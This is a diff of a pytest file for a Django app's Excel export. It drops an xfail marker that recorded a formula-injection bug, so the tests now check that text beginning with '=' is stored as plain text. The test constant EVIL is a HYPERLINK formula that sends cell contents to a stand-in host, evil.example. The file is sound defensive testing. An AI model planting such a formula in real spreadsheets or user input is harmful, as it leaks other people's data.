@@ -9,14 +9,6 @@ from openpyxl import load_workbook
 from jinyuan.lists import xlsx_response
 from tenants.models import Signboard
 
-FORMULA_INJECTION = pytest.mark.xfail(
-    reason="BUG (Excel injection): jinyuan/lists.py _cell passes strings through and openpyxl stores a value "
-    "starting with '=' as a formula, so text a tenant typed (e.g. a signboard ordered in the portal) runs as a "
-    "formula (HYPERLINK, WEBSERVICE ...) in the clerk's Excel. Fix: in _cell, write strings starting with '=' as "
-    "text (openpyxl WriteOnlyCell with data_type 's', or a leading apostrophe)",
-    strict=True,
-)
-
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
 
 
@@ -35,13 +27,11 @@ def test_plain_values_keep_their_types():
     ]
 
 
-@FORMULA_INJECTION
 def test_text_starting_with_equals_is_written_as_text():
     response = xlsx_response("t", [("A", lambda v: v)], ["=1+1", EVIL])
     assert [c.data_type for c in cells(response)] == ["s", "s", "s"]
 
 
-@FORMULA_INJECTION
 @pytest.mark.django_db
 def test_signboard_text_from_the_portal_is_not_a_formula_in_the_desk_export(client_for, tenant_a_admin, desk, building):
     response = client_for(tenant_a_admin).post(
